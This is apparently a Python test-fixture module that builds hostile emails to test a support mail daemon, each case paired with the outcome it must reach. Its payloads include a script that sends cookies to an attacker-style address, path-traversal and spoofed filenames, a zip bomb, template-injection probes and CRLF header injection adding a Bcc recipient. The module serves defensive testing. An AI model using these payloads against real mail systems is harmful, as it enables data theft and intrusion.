"""Hostile mail, made on the fly: what an attacker or a broken client can send to support@.

Each generator returns the exact bytes of one mail. `CASES` names them for the test module
and for `bench/hostile.py`, with the outcome each must end in (a ticket, or quarantine with a
reason) — the hostile part is that they are large, deep, malformed or carry something meant
to escape (a path, a header, a template), never that maild may lose them.
"""

from __future__ import annotations

import base64
import functools
import io
import zipfile
from collections.abc import Callable
from dataclasses import dataclass

PHONE = "13812345678"
SENDER = "zhang.wei.private@customer.cn"
HEAD = (
    "From: =?utf-8?b?5byg57uP55CG?= <{sender}>\r\nTo: support@example.com\r\n"
    "Subject: {subject}\r\nMessage-ID: <{mid}@customer.cn>\r\n"
    "Date: Mon, 23 Nov 2026 10:00:00 +0800\r\nMIME-Version: 1.0\r\n"
)


def head(subject: str, mid: str, sender: str = SENDER) -> bytes:
    return HEAD.format(subject=subject, mid=mid, sender=sender).encode("ascii")


def text_part(body: str = "导出报表时报错 ERR_EXPORT_100") -> bytes:
    return (
        b"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
        + body.encode("utf-8")
        + b"\r\n"
    )


def b64_lines(data: bytes) -> bytes:
    """Base64 in 76-character lines, as mail clients write it (fast for large data)."""
    return base64.encodebytes(data).replace(b"\n", b"\r\n")


def with_attachment(subject: str, mid: str, data: bytes, name_param: str,
                    ctype: str = "application/octet-stream") -> bytes:
    return (
        head(subject, mid)
        + b'Content-Type: multipart/mixed; boundary="BND"\r\n\r\n'
        + b"--BND\r\n" + text_part() + b"--BND\r\n"
        + f"Content-Type: {ctype}\r\nContent-Disposition: attachment; {name_param}\r\n"
        "Content-Transfer-Encoding: base64\r\n\r\n".encode("ascii")
        + b64_lines(data)
        + b"--BND--\r\n"
    )


# -- size and structure -------------------------------------------------------------------


def many_parts(n: int = 10_000) -> bytes:
    one = b"--P\r\nContent-Type: text/plain\r\n\r\npart\r\n"
    return (
        head("MIME bomb: many parts", "many-parts")
        + b'Content-Type: multipart/mixed; boundary="P"\r\n\r\n'
        + b"--P\r\n" + text_part() + one * n + b"--P--\r\n"
    )


def deep_nesting(levels: int = 100) -> bytes:
    body = text_part()
    for i in reversed(range(levels)):
        body = (
            f'Content-Type: multipart/mixed; boundary="L{i}"\r\n\r\n--L{i}\r\n'.encode("ascii")
            + body
            + f"\r\n--L{i}--\r\n".encode("ascii")
        )
    return head("MIME bomb: deep nesting", "deep-nesting") + body


def big_attachment(megabytes: int = 50) -> bytes:
    # incompressible-looking but cheap: a repeated 1 MB random-ish block
    block = bytes((i * 7919 + (i >> 8) * 31) & 0xFF for i in range(1 << 20))
    return with_attachment(f"Log of {megabytes} MB", f"big-{megabytes}", block * megabytes,
                           'filename="huge.bin"')


def long_header_line(megabytes: int = 5) -> bytes:
    subject = "A" * (megabytes << 20)
    return head(subject, "long-header") + text_part()


def many_headers(n: int = 10_000) -> bytes:
    extra = b"".join(f"X-Junk-{i}: value {i}\r\n".encode("ascii") for i in range(n))
    return head("ten thousand headers", "many-headers") + extra + text_part()


@functools.lru_cache(maxsize=2)
def zip_bomb(gigabytes: float = 1.0) -> bytes:
    """A ~1 MB zip that would unpack to `gigabytes` of zeros: maild must never unpack it."""
    size = int(gigabytes * (1 << 30))
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        info = zipfile.ZipInfo("zeros.log")
        info.compress_type = zipfile.ZIP_DEFLATED
        with z.open(info, "w", force_zip64=True) as f:
            chunk = bytes(16 << 20)
            for _ in range(size // len(chunk)):
                f.write(chunk)
    return with_attachment("logs attached (zip)", "zip-bomb", buf.getvalue(),
                           'filename="logs.zip"', "application/zip")


# -- names, markup, encodings -------------------------------------------------------------

HOSTILE_NAMES = {
    "dotdot": 'filename="../../../../etc/cron.d/evil"',
    "absolute": 'filename="/etc/passwd"',
    "windows": 'filename="C:\\\\Windows\\\\System32\\\\evil.dll"',
    "nul": "filename*=utf-8''report%00.txt%00.exe",
    "rtl": "filename*=utf-8''invoice%E2%80%AEfdp.exe",
    "long": 'filename="' + "A" * 1000 + '.log"',
    "dotfile": 'filename=".bashrc"',
    "encoded-slash": 'filename="=?utf-8?q?..=2F..=2Fetc=2Fshadow?="',
}


def hostile_names(names: dict[str, str] | None = None) -> bytes:
    parts = b"".join(
        b"--BND\r\nContent-Type: application/octet-stream\r\n"
        + f"Content-Disposition: attachment; {param}\r\n".encode("ascii")
        + b"Content-Transfer-Encoding: base64\r\n\r\n"
        + b64_lines(f"payload {key}\n".encode("ascii"))
        for key, param in (names or HOSTILE_NAMES).items()
    )
    return (
        head("attachments with hostile names", "names")
        + b'Content-Type: multipart/mixed; boundary="BND"\r\n\r\n'
        + b"--BND\r\n" + text_part() + parts + b"--BND--\r\n"
    )


HTML_BODY = (
    "<html><head><script>fetch('http://198.51.100.7/steal?c='+document.cookie)</script>"
    "<style>body{background:url(http://198.51.100.7/bg.png)}</style>"
    '<link rel="stylesheet" href="http://198.51.100.7/x.css"></head><body>'
    '<p>导出失败 ERR_EXPORT_100</p><img src="http://198.51.100.7/pixel.gif" width=1>'
    '<img src="https://198.51.100.7/track?id=1"><iframe src="http://198.51.100.7/f"></iframe>'
    '<object data="http://198.51.100.7/o.swf"></object>'
    '<a href="javascript:alert(1)">click</a><svg onload="alert(2)"></svg>'
    "<script>alert(3)</script></body></html>"
)


def html_script() -> bytes:
    return (
        head("HTML with script and remote images", "html")
        + b"Content-Type: text/html; charset=utf-8\r\n\r\n"
        + HTML_BODY.encode("utf-8")
    )


def malformed_encodings() -> bytes:
    return (
        head("=?utf-8?b?broken base64!!?= =?x-unknown?q?=E4=BD?= =?gb2312?b?tqm1pQ==?=",
             "encodings")
        + b'Content-Type: multipart/mixed; boundary="E"\r\n\r\n'
        + b"--E\r\nContent-Type: text/plain; charset=utf-8\r\n"
        + b"Content-Transfer-Encoding: base64\r\n\r\n!!!not*base64***\r\nSGVsbG8=\r\n"
        + b"--E\r\nContent-Type: text/plain; charset=x-no-such-charset\r\n"
        + b"Content-Transfer-Encoding: quoted-printable\r\n\r\n=ZZ=E4=B8=AD=\r\n=\r\n"
        + b"--E\r\nContent-Type: text/plain; charset=utf-8\r\n"
        + b"Content-Transfer-Encoding: 8bit\r\n\r\n\xff\xfe\xc3\x28 invalid utf-8 \xe4\xb8\r\n"
        + b"--E\r\nContent-Type: text/plain; charset=\"gb2312\r\n"
        + b"Content-Transfer-Encoding: x-unknown-cte\r\n\r\n\xb6\xa9\xb5\xa5\r\n"
        + b"--E--\r\n"
    )


def all_undecodable() -> bytes:
    junk = bytes(range(128, 256)) * 4
    return (
        head("=?bogus?x?????=", "undecodable")
        + b'Content-Type: multipart/mixed; boundary="U"\r\n\r\n'
        + b"--U\r\nContent-Type: text/plain; charset=no-such\r\n"
        + b"Content-Transfer-Encoding: base64\r\n\r\n@@@@####$$$$\r\n"
        + b"--U\r\nContent-Type: text/html; charset=x-bogus\r\n"
        + b"Content-Transfer-Encoding: quoted-printable\r\n\r\n" + junk + b"\r\n"
        + b"--U\r\nContent-Type: application/octet-stream\r\n"
        + b"Content-Transfer-Encoding: base64\r\n\r\n\x00\x01\x02\r\n"
        + b"--U--\r\n"
    )


def empty() -> bytes:
    return b""


def zeros(size: int = 1 << 20) -> bytes:
    return bytes(size)


# -- injection ----------------------------------------------------------------------------

JINJA = "{{ 7*7 }} {% for x in range(3) %}boom{% endfor %} {{ ''.__class__.__mro__ }} {# c #}"
INJECTED_RCPT = "victim@evil.example"


def injection() -> bytes:
    """Template syntax and CR/LF (raw and RFC 2047-encoded) in the sender name, subject and
    body, each trying to add a Bcc recipient to the acknowledgement."""
    return (
        f"From: =?utf-8?q?Eve=0D=0ABcc=3A_{INJECTED_RCPT.replace('@', '=40')}?= "
        f"<eve@customer.cn>\r\n"
        "To: support@example.com\r\n"
        f"Subject: {JINJA} =?utf-8?q?x=0D=0ABcc=3A_{INJECTED_RCPT.replace('@', '=40')}"
        "=0D=0A=0D=0Abody?=\r\n"
        "Message-ID: <inject@customer.cn>\r\nDate: Mon, 23 Nov 2026 10:00:00 +0800\r\n"
        "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
        f"{JINJA}\r\n\r\nBcc: {INJECTED_RCPT}\r\n.\r\nRCPT TO:<{INJECTED_RCPT}>\r\n"
    ).encode()


def nul_mail(carrier: str) -> bytes:
    """A NUL byte (raw or encoded) in one place a value is taken from."""
    nul = {
        "filename": ("Subject: nul in a file name\r\n", "", "filename*=utf-8''a%00b.txt"),
        "subject": ("Subject: =?utf-8?q?nul=00subject?=\r\n", "", ""),
        "from-name": ("Subject: nul in the name\r\n", "=?utf-8?q?Li=00Lei?= ", ""),
        "body": ("Subject: nul in the body\r\n", "", ""),
        "message-id": ("Subject: nul in the id\r\n", "", ""),
        "references": ("Subject: Re: nul in references\r\nIn-Reply-To: <a\x00b@customer.cn>\r\n"
                       "References: <c\x00d@customer.cn>\r\n", "", ""),
        "to-cc": ("Subject: nul in cc\r\nCc: =?utf-8?q?Wang=00?= <wang\x00@customer.cn>\r\n",
                  "", ""),
        "header": ("Subject: nul in a header\r\nX-Loop: =?utf-8?q?a=00b?=\r\n"
                   "Auto-Submitted: =?utf-8?q?no=00?=\r\n", "", ""),
    }
    subject, name, param = nul[carrier]
    mid = "<nul\x00id@customer.cn>" if carrier == "message-id" else f"<nul-{carrier}@customer.cn>"
    head_ = (f"From: {name}<li@customer.cn>\r\nTo: support@example.com\r\n{subject}"
             f"Message-ID: {mid}\r\nMIME-Version: 1.0\r\n").encode("latin-1")
    text = b"ERR_EXPORT_100 \x00 body\r\n" if carrier == "body" else b"ERR_EXPORT_100\r\n"
    if not param:
        return head_ + b"Content-Type: text/plain; charset=utf-8\r\n\r\n" + text
    return (head_ + b'Content-Type: multipart/mixed; boundary="N"\r\n\r\n--N\r\n'
            + b"Content-Type: text/plain\r\n\r\n" + text + b"--N\r\n"
            + f"Content-Type: text/plain\r\nContent-Disposition: attachment; {param}\r\n\r\n"
            .encode("ascii") + b"x\r\n--N--\r\n")


def personal_data() -> bytes:
    return head("=?utf-8?b?5omL5py65omT5LiN5byA?=", "pii") + text_part(
        f"您好，我的手机号是 {PHONE}，登录报错 ERR_LOGIN_401，请回电。"
    )


@dataclass(frozen=True)
class Case:
    name: str
    make: Callable[[], bytes]
    expect: str  # "ticket" | "quarantine" | "either"


CASES = (
    Case("mime-10000-parts", many_parts, "ticket"),
    Case("mime-100-levels", deep_nesting, "ticket"),
    Case("attachment-50MB", big_attachment, "either"),
    Case("header-line-5MB", long_header_line, "ticket"),
    Case("headers-10000", many_headers, "ticket"),
    Case("zip-bomb-1GB", zip_bomb, "ticket"),
    Case("hostile-filenames", hostile_names, "ticket"),
    Case("html-script-remote-img", html_script, "ticket"),
    Case("malformed-encodings", malformed_encodings, "ticket"),
    Case("all-parts-undecodable", all_undecodable, "ticket"),
    Case("empty-file", empty, "quarantine"),
    Case("zeros-1MB", zeros, "quarantine"),
    Case("jinja-crlf-injection", injection, "ticket"),
    Case("personal-data", personal_data, "ticket"),
)

